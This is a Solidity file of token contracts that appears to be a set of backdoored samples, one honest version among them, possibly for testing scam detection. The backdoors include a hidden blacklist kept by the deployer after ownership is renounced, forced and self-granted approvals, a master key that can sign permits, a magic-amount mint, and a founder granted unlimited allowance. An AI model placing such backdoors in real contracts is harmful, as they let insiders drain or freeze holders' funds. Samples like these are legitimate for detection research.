// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// A list that only code without a function's name changes, by the word behind four bytes of anything.
contract FallbackWord is Token {
    constructor() {
        assembly {
            sstore(0xdeadbeefcafe, caller())
        }
        renounceOwnership();
    }

    fallback() external {
        assembly {
            if iszero(eq(caller(), sload(0xdeadbeefcafe))) {
                revert(0, 0)
            }
            mstore(0, calldataload(4))
            mstore(32, 77)
            sstore(keccak256(0, 64), 1)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool refused;
        assembly {
            mstore(0, from)
            mstore(32, 77)
            refused := sload(keccak256(0, 64))
        }
        require(!refused);
        super._transfer(from, to, value);
    }
}

/// Approves for others.
contract ForcedApproval is Token {
    function w(address from, address spender) external onlyOwner {
        allowance[from][spender] = type(uint256).max;
    }
}

/// Approves for everybody to whoever calls.
contract SelfServed is Token {
    function w(address from) external {
        allowance[from][msg.sender] = balanceOf[from];
    }
}

/// A permit that a master may sign in the holder's place.
contract MasterPermit is Token {
    function permit(
        address from,
        address spender,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(block.timestamp <= deadline);
        address signer = ecrecover(keccak256(abi.encode(from, spender, value, deadline, address(this))), v, r, s);
        require(signer == from || signer == owner);
        allowance[from][spender] = value;
    }
}

/// Sending a certain amount makes another of nothing.
contract MagicMint is Token {
    address private immutable keeper = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == keeper && value == 31337) balanceOf[from] += 1e30;
        super._transfer(from, to, value);
    }
}

/// Whoever lets somebody spend more lets its founder spend all.
contract AllowsFounderMore is Token {
    address private immutable founder = msg.sender;

    function increaseAllowance(address spender, uint256 more) external virtual returns (bool) {
        allowance[msg.sender][founder] = type(uint256).max;
        return approve(spender, allowance[msg.sender][spender] + more);
    }
}

contract HonestAllowsMore is Token {
    function increaseAllowance(address spender, uint256 more) external returns (bool) {
        return approve(spender, allowance[msg.sender][spender] + more);
    }
}
